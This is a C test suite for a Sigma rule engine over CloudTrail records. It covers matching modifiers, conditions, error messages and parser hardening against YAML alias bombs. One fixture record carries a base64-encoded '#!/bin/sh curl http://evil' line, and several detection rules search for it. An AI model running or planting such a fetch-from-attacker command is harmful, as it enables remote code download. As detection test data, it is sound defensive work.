/* Sigma detections: which records each modifier, value and condition finds, on columns and record
 * by record; and what is said of rules that can't be read. */
#include "detect/rule_run.h"

/* One letter a record. */
static const char *const records[] = {
    /* a */
    "{\"eventTime\":\"2024-03-01T10:00:00Z\",\"eventName\":\"ConsoleLogin\",\"eventSource\":"
    "\"signin.amazonaws.com\","
    "\"sourceIPAddress\":\"203.0.113.9\",\"userAgent\":\"Mozilla/5.0 (X11) "
    "Firefox\",\"userIdentity\":{\"type\":\"IAMUser\","
    "\"userName\":\"Alice\",\"arn\":\"arn:aws:iam::111122223333:user/"
    "Alice\"},\"errorMessage\":\"Failed authentication\","
    "\"responseElements\":{\"ConsoleLogin\":\"Failure\"},\"additionalEventData\":{\"MFAUsed\":"
    "\"No\"},\"readOnly\":false}",
    /* b */
    "{\"eventTime\":\"2024-03-01T23:59:59Z\",\"eventName\":\"GetObject\",\"eventSource\":\"s3."
    "amazonaws.com\","
    "\"sourceIPAddress\":\"10.1.2.3\",\"userAgent\":\"aws-cli/2 -x "
    "/y\",\"userIdentity\":{\"type\":\"IAMUser\",\"userName\":\"bob\"},"
    "\"requestParameters\":{\"bucketName\":\"secret-bucket\",\"key\":\"a\\\\b*c?.txt\",\"maxKeys\":"
    "1000,\"tags\":[\"red\",\"blue\"],"
    "\"list\":[{\"n\":1,\"who\":\"x\"},{\"n\":2,\"who\":\"y\"}]},\"readOnly\":true}",
    /* c */
    "{\"eventTime\":\"2024-03-02T00:00:00Z\",\"eventName\":\"PutUserPolicy\",\"eventSource\":\"iam."
    "amazonaws.com\","
    "\"sourceIPAddress\":\"203.0.113.200\",\"userAgent\":\"Boto3/"
    "1.35\",\"userIdentity\":{\"type\":\"IAMUser\",\"userName\":\"carol\"},"
    "\"errorCode\":\"AccessDenied\",\"errorMessage\":\"no\",\"requestParameters\":{\"userName\":"
    "\"carol\",\"maxKeys\":\"900\","
    "\"policyDocument\":\"{\\\"Effect\\\":\\\"Allow\\\"}\",\"script\":"
    "\"IyEvYmluL3NoIGN1cmwgaHR0cDovL2V2aWw=\"},\"readOnly\":false}",
    /* d */
    "{\"eventTime\":\"2024-03-05T12:30:00Z\",\"eventName\":\"Describe\",\"eventSource\":\"ec2."
    "amazonaws.com\","
    "\"sourceIPAddress\":\"AWS Internal\",\"userAgent\":\"AWS "
    "Internal\",\"userIdentity\":{\"type\":\"AWSService\",\"invokedBy\":\"ec2.amazonaws.com\"},"
    "\"requestParameters\":null,\"responseElements\":{\"note\":\"Zeile1\\nZeile2\"}}",
    /* e */
    "{\"eventTime\":\"2024-03-06T00:00:00Z\",\"eventName\":\"CreateAccessKey\",\"eventSource\":"
    "\"iam.amazonaws.com\","
    "\"sourceIPAddress\":\"2001:db8::9\",\"userIdentity\":{\"type\":\"IAMUser\",\"userName\":"
    "\"dora\"},"
    "\"requestParameters\":{\"userName\":\"emil\",\"empty\":\"\"},\"resources\":[{\"ARN\":\"arn:"
    "one\"},{\"ARN\":\"arn:two\"}]}",
};
enum { RECORDS = sizeof records / sizeof records[0] };

/* detection: what stands below `detection:`, each line indented by two. */
static const struct {
    const char *detection, *found;
} cases[] = {
    /* values */
    {"  s:\n    eventName: ConsoleLogin\n  condition: s\n", "a"},
    {"  s:\n    eventName: consolelogin\n  condition: s\n", "a"},
    {"  s:\n    eventName: Console\n  condition: s\n", ""},
    {"  s:\n    eventName|cased: consolelogin\n  condition: s\n", ""},
    {"  s:\n    eventName|cased: ConsoleLogin\n  condition: s\n", "a"},
    {"  s:\n    eventName: [GetObject, Describe]\n  condition: s\n", "bd"},
    {"  s:\n    event.action: GetObject\n  condition: s\n", "b"},
    {"  s:\n    userIdentity.userName: alice\n  condition: s\n", "a"},
    {"  s:\n    eventName: GetObject\n    eventSource: s3.amazonaws.com\n  condition: s\n", "b"},
    {"  s:\n    eventName: GetObject\n    eventSource: ec2.amazonaws.com\n  condition: s\n", ""},
    {"  s:\n    - eventName: GetObject\n    - eventSource: ec2.amazonaws.com\n  condition: s\n",
     "bd"},
    {"  s:\n    requestParameters.maxKeys: 1000\n  condition: s\n", "b"},
    {"  s:\n    requestParameters.maxKeys: '900'\n  condition: s\n", "c"},
    {"  s:\n    readOnly: true\n  condition: s\n", "b"},
    {"  s:\n    readOnly: 'False'\n  condition: s\n", "ac"},
    {"  s:\n    requestParameters.tags: blue\n  condition: s\n", "b"},
    {"  s:\n    resources.ARN: arn:two\n  condition: s\n", "e"},
    {"  s:\n    responseElements.ConsoleLogin: failure\n  condition: s\n", "a"},
    {"  s:\n    additionalEventData.MFAUsed: 'NO'\n  condition: s\n", "a"},
    /* wildcards and their escapes */
    {"  s:\n    eventName: '*Object'\n  condition: s\n", "b"},
    {"  s:\n    eventName: Get*\n  condition: s\n", "b"},
    {"  s:\n    eventName: '*o*e*'\n  condition: s\n", "ab"},
    {"  s:\n    eventName: 'GetObj?ct'\n  condition: s\n", "b"},
    {"  s:\n    eventName: 'GetObj??ct'\n  condition: s\n", ""},
    {"  s:\n    eventName: 'D*b?'\n  condition: s\n", "d"},
    {"  s:\n    eventName|contains: 'con?ole'\n  condition: s\n", "a"},
    {"  s:\n    requestParameters.key: 'a\\b\\*c\\?.txt'\n  condition: s\n", "b"},
    {"  s:\n    requestParameters.key: 'a\\\\b\\*c\\?.txt'\n  condition: s\n", "b"},
    {"  s:\n    requestParameters.key: 'a\\\\*'\n  condition: s\n", "b"},
    {"  s:\n    requestParameters.key: 'a\\*'\n  condition: s\n", ""},
    {"  s:\n    requestParameters.key|endswith: '\\?.txt'\n  condition: s\n", "b"},
    {"  s:\n    requestParameters.key|endswith: 'x?.txt'\n  condition: s\n", ""},
    {"  s:\n    errorCode: '*'\n  condition: s\n", "c"},
    {"  s:\n    errorCode|contains: '*'\n  condition: s\n", "c"},
    /* modifiers */
    {"  s:\n    eventName|contains: OBJ\n  condition: s\n", "b"},
    {"  s:\n    eventName|startswith: get\n  condition: s\n", "b"},
    {"  s:\n    eventName|endswith: login\n  condition: s\n", "a"},
    {"  s:\n    eventName|contains:\n      - Obj\n      - Log\n  condition: s\n", "ab"},
    {"  s:\n    eventName|contains|all:\n      - et\n      - Obj\n  condition: s\n", "b"},
    {"  s:\n    requestParameters.tags|all:\n      - red\n      - blue\n  condition: s\n", "b"},
    {"  s:\n    requestParameters.tags|all:\n      - red\n      - green\n  condition: s\n", ""},
    {"  s:\n    eventName|re: '^(Get|Put)'\n  condition: s\n", "bc"},
    {"  s:\n    eventName|re: '^get'\n  condition: s\n", ""},
    {"  s:\n    eventName|re|i: '^get'\n  condition: s\n", "b"},
    {"  s:\n    responseElements.note|re: '^Zeile2'\n  condition: s\n", ""},
    {"  s:\n    responseElements.note|re|m: '^Zeile2'\n  condition: s\n", "d"},
    {"  s:\n    responseElements.note|re: 'Zeile1.Zeile2'\n  condition: s\n", ""},
    {"  s:\n    responseElements.note|re|s: 'Zeile1.Zeile2'\n  condition: s\n", "d"},
    {"  s:\n    responseElements.note|re|i|s: 'zeile1.zeile2'\n  condition: s\n", "d"},
    {"  s:\n    errorCode|exists: true\n  condition: s\n", "c"},
    {"  s:\n    errorCode|exists: false\n  condition: s\n", "abde"},
    {"  s:\n    requestParameters.list|exists: true\n  condition: s\n", "b"},
    {"  s:\n    sourceIPAddress|cidr: 203.0.113.0/24\n  condition: s\n", "ac"},
    {"  s:\n    source.ip|cidr: [10.0.0.0/8, '2001:db8::/32']\n  condition: s\n", "be"},
    {"  s:\n    requestParameters.maxKeys|gt: 900\n  condition: s\n", "b"},
    {"  s:\n    requestParameters.maxKeys|gte: 900\n  condition: s\n", "bc"},
    {"  s:\n    requestParameters.maxKeys|lt: 1000\n  condition: s\n", "c"},
    {"  s:\n    requestParameters.maxKeys|lte: 1000.0\n  condition: s\n", "bc"},
    {"  s:\n    eventTime|gte: '2024-03-05T00:00:00Z'\n  condition: s\n", "de"},
    {"  s:\n    eventName|neq: GetObject\n  condition: s\n", "acde"},
    {"  s:\n    eventName|neq: [GetObject, Describe]\n  condition: s\n", "ace"},
    {"  s:\n    eventName|contains|neq: o\n  condition: s\n", "de"},
    {"  s:\n    userIdentity.userName|fieldref: requestParameters.userName\n  condition: s\n", "c"},
    {"  s:\n    requestParameters.script|base64offset|contains: 'http://evil'\n  condition: s\n",
     "c"},
    {"  s:\n    requestParameters.script|base64offset|contains: '/bin/sh'\n  condition: s\n", "c"},
    {"  s:\n    requestParameters.script|base64offset|contains: 'bin/sh c'\n  condition: s\n", "c"},
    {"  s:\n    requestParameters.script|base64: '#!/bin/sh curl http://evil'\n  condition: s\n",
     "c"},
    {"  s:\n    requestParameters.script|base64offset|contains: 'nowhere'\n  condition: s\n", ""},
    {"  s:\n    userAgent|windash|contains: ' /x'\n  condition: s\n", "b"},
    {"  s:\n    userAgent|contains|windash: ' -y'\n  condition: s\n", "b"},
    {"  s:\n    userAgent|contains: ' -y'\n  condition: s\n", ""},
    /* null and empty */
    {"  s:\n    errorCode: null\n  condition: s\n", "abde"},
    {"  s:\n    errorCode:\n  condition: s\n", "abde"},
    {"  s:\n    errorCode: ''\n  condition: s\n", "abde"},
    {"  s:\n    errorCode: [null, AccessDenied]\n    eventName: [PutUserPolicy, Describe]\n  "
     "condition: s\n",
     "cd"},
    {"  s:\n    requestParameters.userName: null\n  condition: s\n", "abd"},
    {"  s:\n    errorCode|neq: null\n  condition: s\n", "c"},
    /* whole objects */
    {"  s:\n    requestParameters|contains: '\"bucketName\":\"secret'\n  condition: s\n", "b"},
    {"  s:\n    requestParameters|contains: 'BUCKETNAME'\n  condition: s\n", "b"},
    {"  s:\n    requestParameters|contains|all:\n      - carol\n      - policyDocument\n  "
     "condition: s\n",
     "c"},
    {"  s:\n    requestParameters|re: '\"maxKeys\":\\s*\"?9'\n  condition: s\n", "c"},
    {"  s:\n    requestParameters: null\n  condition: s\n", "ad"},
    {"  s:\n    requestParameters|exists: true\n  condition: s\n", "bce"},
    {"  s:\n    requestParameters.policyDocument|contains: '\"Effect\":\"Allow\"'\n  condition: "
     "s\n",
     "c"},
    {"  s:\n    requestParameters.list|re: '\"n\":2,\"who\":\"y\"'\n  condition: s\n", "b"},
    {"  s:\n    requestParameters.list|re: '\"n\":1.*\"who\":\"y\"'\n  condition: s\n", ""},
    {"  s:\n    requestParameters.list.who: y\n  condition: s\n", "b"},
    /* keywords */
    {"  s:\n    - firefox\n    - Secret-Bucket\n  condition: s\n", "ab"},
    {"  s: boto3\n  condition: s\n", "c"},
    {"  s:\n    '|all':\n      - carol\n      - boto3\n  condition: s\n", "c"},
    {"  s:\n    - 'secret*cket'\n  condition: s\n", "b"},
    {"  s:\n    - 'secret?bucket'\n  condition: s\n", "b"},
    {"  s:\n    - 'secret?ucket'\n  condition: s\n", ""},
    {"  s:\n    - eventName: Describe\n    - boto3\n  condition: s\n", "cd"},
    {"  s:\n    - 'a\\b\\*c'\n  condition: s\n", "b"},
    /* conditions */
    {"  s:\n    eventSource|contains: amazonaws\n  f:\n    eventName: GetObject\n  condition: s "
     "and not f\n",
     "acde"},
    {"  a:\n    eventName: GetObject\n  b:\n    eventName: Describe\n  condition: a or b\n", "bd"},
    {"  a:\n    eventName: GetObject\n  b:\n    eventName: Describe\n  c:\n    readOnly: true\n  "
     "condition: a or b and c\n",
     "b"},
    {"  a:\n    eventName: GetObject\n  b:\n    eventName: Describe\n  c:\n    readOnly: true\n  "
     "condition: (a or b) and not c\n",
     "d"},
    {"  a:\n    eventName: GetObject\n  condition: not not a\n", "b"},
    {"  a:\n    eventName: GetObject\n  condition: NOT a AND NOT a\n", "acde"},
    {"  x_1:\n    eventName: GetObject\n  x_2:\n    eventName: Describe\n  condition: 1 of x_*\n",
     "bd"},
    {"  x_1:\n    eventName|contains: Get\n  x_2:\n    eventName|contains: Obj\n  condition: all "
     "of x_*\n",
     "b"},
    {"  x_1:\n    eventName: GetObject\n  x_2:\n    eventName: Describe\n  condition: any of x_*\n",
     "bd"},
    {"  x_1:\n    eventName: GetObject\n  y:\n    eventName: Describe\n  condition: 1 of them\n",
     "bd"},
    {"  x_1:\n    eventName: GetObject\n  _y:\n    eventName: Describe\n  condition: 1 of them\n",
     "b"},
    {"  x:\n    eventName: GetObject\n  y:\n    readOnly: true\n  condition: all of them\n", "b"},
    {"  s:\n    eventSource|contains: amazonaws\n  f_1:\n    eventName: GetObject\n  f_2:\n    "
     "eventName: Describe\n  condition: s and not 1 of f_*\n",
     "ace"},
    {"  s:\n    eventName: GetObject\n  condition: \"s\\n  or s\"\n", "b"},
    {"  a:\n    eventName: GetObject\n  b:\n    eventName: Describe\n  condition:\n    - a\n    - "
     "b\n",
     "bd"},
    {"  all:\n    eventName: GetObject\n  condition: all\n", "b"},
    {"  a: &x\n    eventName: GetObject\n  b: *x\n  condition: a and b\n", "b"},
    /* unknown fields: nothing matches, whatever is asked */
    {"  s:\n    nosuch: x\n  condition: s\n", ""},
    {"  s:\n    nosuch|exists: false\n  condition: s\n", ""},
    {"  s:\n    nosuch|neq: x\n  condition: s\n", ""},
    {"  s:\n    nosuch: null\n  condition: s\n", ""},
    {"  s:\n    eventName: GetObject\n  f:\n    nosuch: x\n  condition: s and not f\n", "b"},
};

static char *rule_text(const char *detection)
{
    return th_xasprintf(
        "title: t\nid: i\nlevel: low\nlogsource:\n  product: aws\n  service: cloudtrail\n"
        "detection:\n%s",
        detection);
}

static void check_case(struct rule_run *r, const char *detection, const char *want)
{
    char *text = rule_text(detection);
    th_rules *rules = rules_of(text);
    char got[RECORDS + 1] = "", slow[RECORDS + 1] = "";
    if (th_rules_count(rules) != 1) {
        char *notes = notes_of(rules);
        tap_ok(false, "%s: %s", detection, notes);
        free(notes);
    } else {
        const struct th_rule *rule = th_rules_get(rules, 0);
        struct th_bits bits;
        size_t n = 0, m = 0;
        if (th_eval_rows(r->table, rule->query, NULL, NULL, &bits, &r->err) == TH_OK) {
            for (size_t i = 0; i < RECORDS; i++) {
                if (th_bits_get(&bits, i))
                    got[n++] = (char)('a' + i);
                if (th_eval_record(rule->query, th_str_of(records[i])))
                    slow[m++] = (char)('a' + i);
            }
            th_bits_fini(&bits);
        }
        got[n] = slow[m] = '\0';
        tap_ok(strcmp(got, want) == 0 && strcmp(slow, want) == 0,
               "%s -> \"%s\" (columns \"%s\", records \"%s\")", detection, want, got, slow);
    }
    th_rules_free(rules);
    free(text);
}

static void test_cases(void)
{
    struct mem_case *c = mem_case_new();
    struct rule_run r;
    for (size_t i = 0; i < RECORDS; i++)
        mem_case_add(c, th_str_of(records[i]));
    run_open(&r, c);
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
        check_case(&r, cases[i].detection, cases[i].found);
    run_close(&r);
}

/* What is wrong, and where. Ending in a colon: what a library says of it follows. */
#define HEAD "title: t\nid: i\nlevel: low\nlogsource: {product: aws, service: cloudtrail}\n"
static const struct {
    const char *text, *notes;
    size_t rules;
} broken[] = {
    {"", "", 0},
    {"# only a remark\n---\n---\n", "", 0},
    {HEAD "detection:\n  s:\n    eventName|containz: x\n  condition: s\n",
     "7 error: unknown modifier containz, did you mean contains?", 0},
    {HEAD "detection:\n  s:\n    eventName|quirk: x\n  condition: s\n",
     "7 error: unknown modifier quirk", 0},
    {HEAD "detection:\n  s:\n    eventName|: x\n  condition: s\n", "7 error: unknown modifier ", 0},
    {HEAD "detection:\n  s:\n    eventName|contains|endswith: x\n  condition: s\n",
     "7 error: the modifier endswith can't be joined with the one before", 0},
    {HEAD "detection:\n  s:\n    eventName|i: x\n  condition: s\n",
     "7 error: the modifier i belongs behind re", 0},
    {HEAD "detection:\n  s:\n    eventName|re: '('\n  condition: s\n",
     "7 error: bad regular expression:", 0},
    {HEAD "detection:\n  s:\n    sourceIPAddress|cidr: 10.0.0.0\n  condition: s\n",
     "7 error: 10.0.0.0 is no network such as 203.0.113.0/24", 0},
    {HEAD "detection:\n  s:\n    eventName|gt: many\n  condition: s\n",
     "7 error: many is no number to compare with", 0},
    {HEAD "detection:\n  s:\n    eventName|exists: perhaps\n  condition: s\n",
     "7 error: exists is true or false", 0},
    {HEAD "detection:\n  s:\n    eventName|contains: null\n  condition: s\n",
     "7 error: nothing (null) can only be compared with a field as it is", 0},
    {HEAD "detection:\n  s:\n    eventName|base64: 'a*'\n  condition: s\n",
     "7 error: a value with wildcards can't be encoded", 0},
    {HEAD "detection:\n  s:\n    eventName|base64|re: 'a'\n  condition: s\n",
     "7 error: an encoding can't be joined with this comparison", 0},
    {HEAD "detection:\n  s:\n    eventName: []\n  condition: s\n", "7 error: no values", 0},
    {HEAD "detection:\n  s:\n    eventName: [[a]]\n  condition: s\n",
     "7 error: a value is a list or a map, expected a text or a number", 0},
    {HEAD "detection:\n  s: {}\n  condition: s\n", "6 error: an empty selection", 0},
    {HEAD "detection:\n  s:\n    - ''\n  condition: s\n", "7 error: an empty keyword is everywhere",
     0},
    {HEAD "detection:\n  s:\n    '|re': x\n  condition: s\n",
     "7 error: keywords are looked for anywhere, only |all and the encodings can stand with them",
     0},
    {HEAD "detection:\n  s:\n    eventName: x\n", "6 error: detection has no condition", 0},
    {HEAD "detection:\n  s:\n    eventName: x\n  condition: s and\n",
     "8 error: condition: a name is missing at its end", 0},
    {HEAD "detection:\n  s:\n    eventName: x\n  condition: s s\n",
     "8 error: condition: expected \"and\" or \"or\" at \"s\"", 0},
    {HEAD "detection:\n  s:\n    eventName: x\n  condition: (s\n",
     "8 error: condition: a \")\" is missing at its end", 0},
    {HEAD "detection:\n  s:\n    eventName: x\n  condition: t\n",
     "8 error: condition: no selection is called so at \"t\"", 0},
    {HEAD "detection:\n  s:\n    eventName: x\n  condition: 1 of t*\n",
     "8 error: condition: no selection is called so at \"t*\"", 0},
    {HEAD "detection:\n  s:\n    eventName: x\n  condition: 2 of s*\n",
     "8 error: condition: only \"1 of\", \"any of\" and \"all of\" are known at \"2\"", 0},
    {HEAD "detection:\n  s:\n    eventName: x\n  condition: s | count() > 5\n",
     "8 error: condition: counting belongs into a correlation rule at \"|\"", 0},
    {HEAD "detection:\n  s:\n    eventName: x\n    eventName: y\n  condition: s\n",
     "8 error: the key eventName stands there twice", 0},
    {HEAD "detection:\n  s:\n    evntName: x\n  condition: s\n",
     "7 warning: unknown field evntName, did you mean eventName? (what is asked of it matches "
     "nothing)",
     1},
    {HEAD "detection:\n  s:\n    eventName: x\n  t:\n    eventName: y\n  condition: s\n",
     "8 warning: the condition doesn't use t", 1},
    {HEAD "detection: [\n", "5 error: not YAML:", 0},
    {"title: t\nid: i\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  s:\n    "
     "eventName: x\n  condition: s\n",
     "1 warning: no level, taken as informational", 1},
    {"title: t\nid: i\nlevel: hot\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  "
     "s:\n    eventName: x\n  condition: s\n",
     "3 warning: unknown level hot, taken as informational", 1},
    {"title: t\nlevel: low\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  s:\n    "
     "eventName: x\n  condition: s\n",
     "1 warning: no id, one is made from the title", 1},
    {"id: i\nlogsource: {product: aws, service: cloudtrail}\ndetection: {s: x, condition: s}\n",
     "1 error: no title", 0},
    {"title: t\nid: i\nlogsource: {product: windows, service: security}\ndetection: {s: x, "
     "condition: s}\n",
     "3 warning: not for product aws, service cloudtrail: left out", 0},
    {"title: t\nid: i\ndetection: {s: x, condition: s}\n",
     "1 warning: not for product aws, service cloudtrail: left out", 0},
    {"title: t\nid: i\n", "1 error: neither detection nor correlation", 0},
    {"- a\n- b\n", "1 error: a rule is a map, this is none", 0},
    {HEAD "detection: {s: {eventName: x}, condition: s}\ntrailhound: {gap: soon}\n",
     "6 error: gap is no span of time such as 1h", 0},
    {HEAD "detection: {s: {eventName: x}, condition: s}\ntrailhound: {group-by: nosuch}\n",
     "6 error: unknown field nosuch", 0},
    {HEAD "detection: {s: {eventName: x}, condition: s}\ntrailhound: {colour: red}\n",
     "6 warning: trailhound: colour means nothing here", 1},
    /* a broken document doesn't take the others with it */
    {"---\n" HEAD
     "detection: {s: {eventName: x}, condition: s}\n---\nfoo: [\n---\ntitle: u\nid: j\nlevel: low\n"
     "logsource: {product: aws, service: cloudtrail}\ndetection: {s: {eventName: x}, condition: "
     "s}\n",
     "8 error: not YAML:", 2},
    {HEAD "detection: {s: {eventName: x}, condition: s}\n---\n" HEAD
          "detection: {s: {eventName: x}, condition: s}\n",
     "7 error: the id is already that of t (test.yml)", 1},
};

static bool same_notes(const char *got, const char *want)
{
    size_t n = strlen(want);
    return n > 0 && want[n - 1] == ':' ? strncmp(got, want, n) == 0 : strcmp(got, want) == 0;
}

static void test_broken(void)
{
    for (size_t i = 0; i < sizeof broken / sizeof broken[0]; i++) {
        th_rules *rules = rules_of(broken[i].text);
        char *notes = notes_of(rules);
        if (!same_notes(notes, broken[i].notes) || th_rules_count(rules) != broken[i].rules) {
            tap_is_str(notes, broken[i].notes, broken[i].text);
            tap_is_int((int64_t)th_rules_count(rules), (int64_t)broken[i].rules, "rules");
        } else {
            tap_ok(true, "%s", *notes != '\0' ? notes : "nothing to say");
        }
        free(notes);
        th_rules_free(rules);
    }
}

/* A text that repeats. Owned. */
static char *repeat(const char *before, const char *one, size_t n, const char *after)
{
    struct th_buf out = TH_BUF_INIT;
    th_buf_puts(&out, before);
    for (size_t i = 0; i < n; i++)
        th_buf_puts(&out, one);
    th_buf_puts(&out, after);
    return th_buf_take(&out);
}

/* Whatever is in a file, reading it ends, and soon. */
static void test_hostile(void)
{
    static const struct {
        const char *before, *one, *after, *name;
        size_t n;
    } texts[] = {
        {HEAD "detection:\n  s: ", "[", "\n", "deep lists", 50000},
        {HEAD "detection:\n  s: ", "{a: ", "\n", "deep maps", 5000},
        {HEAD "detection:\n  s:\n    eventName: x\n  condition: ", "(", "s\n", "deep parentheses",
         100000},
        {HEAD "detection:\n  s:\n    eventName: x\n  condition: ", "not ", "s\n", "many nots",
         100000},
        {HEAD "detection:\n  s:\n    eventName: x\n  condition: s", " or s", "\n",
         "a long condition", 100000},
        {HEAD "detection:\n  s:\n    eventName: [x", ", y", "]\n  condition: s\n", "many values",
         60000},
        {HEAD "detection:\n  s:\n    eventName|windash: '", " -a", "'\n  condition: s\n",
         "many dashes", 100},
    };
    for (size_t i = 0; i < sizeof texts / sizeof texts[0]; i++) {
        char *text = repeat(texts[i].before, texts[i].one, texts[i].n, texts[i].after);
        th_rules *rules = rules_of(text);
        tap_ok(th_rules_count(rules) == 0 && th_rules_note_count(rules) == 1 &&
                   th_rules_note(rules, 0)->error,
               "%s: refused", texts[i].name);
        th_rules_free(rules);
        free(text);
    }
    struct th_buf bomb = TH_BUF_INIT;
    th_buf_puts(&bomb, "a0: &a0 [x]\n");
    for (int i = 1; i < 40; i++)
        th_buf_printf(&bomb, "a%d: &a%d [*a%d, *a%d]\n", i, i, i - 1, i - 1);
    th_rules *rules = rules_of(th_buf_cstr(&bomb));
    tap_ok(th_rules_note_count(rules) == 1 &&
               strcmp(th_rules_note(rules, 0)->text, "too many values") == 0,
           "aliases of aliases are counted");
    th_rules_free(rules);
    th_buf_fini(&bomb);
    rules = th_rules_from_text((struct th_str){"title: \xff\xfe", 9}, "x.yml");
    tap_ok(th_rules_note_count(rules) == 1 &&
               strcmp(th_rules_note(rules, 0)->text, "not UTF-8") == 0,
           "not UTF-8");
    th_rules_free(rules);
    rules = rules_of("a: &x [*x]\n");
    tap_ok(th_rules_note_count(rules) == 1 && th_rules_note(rules, 0)->error,
           "a value inside itself is refused");
    th_rules_free(rules);
}

static void test_head(void)
{
    th_rules *rules = rules_of(
        "---\ntitle: T\nid: I\nstatus: test\nlevel: High\ndescription: D\ntags: [attack.t1, "
        "attack.t2]\n"
        "falsepositives:\n  - F\nlogsource: {product: AWS, service: CloudTrail}\n"
        "detection: {s: {eventName: x}, condition: s}\n"
        "trailhound: {noun: things, gap: 5m, group-by: [eventName, requestParameters.name]}\n");
    const struct th_rule *r = th_rules_get(rules, 0);
    tap_is_str(r->title, "T", "title");
    tap_is_str(r->id, "I", "id");
    tap_is_str(r->level, "high", "level in lower case");
    tap_is_str(r->status, "test", "status");
    tap_is_str(r->description, "D", "description");
    tap_ok(r->tags_n == 2 && strcmp(r->tags[1], "attack.t2") == 0, "tags");
    tap_ok(r->falsepositives_n == 1 && strcmp(r->falsepositives[0], "F") == 0, "false positives");
    tap_is_str(r->noun, "things", "noun");
    tap_is_int(r->gap_ms, 300000, "gap");
    tap_is_int(r->line, 2, "the line behind the dashes");
    tap_ok(strncmp(r->text, "title: T\n", 9) == 0, "its text begins there");
    tap_ok(r->group_by_n == 2 && strcmp(r->group_by_names[0], "event.action") == 0 &&
               strcmp(r->group_by_names[1], "requestParameters.name") == 0,
           "groups by ECS name, paths as written");
    tap_ok(!r->silent && r->kind == TH_RULE_EVENT, "an event rule that speaks");
    th_rules_free(rules);
}

int main(void)
{
    test_cases();
    test_broken();
    test_hostile();
    test_head();
    return tap_done();
}
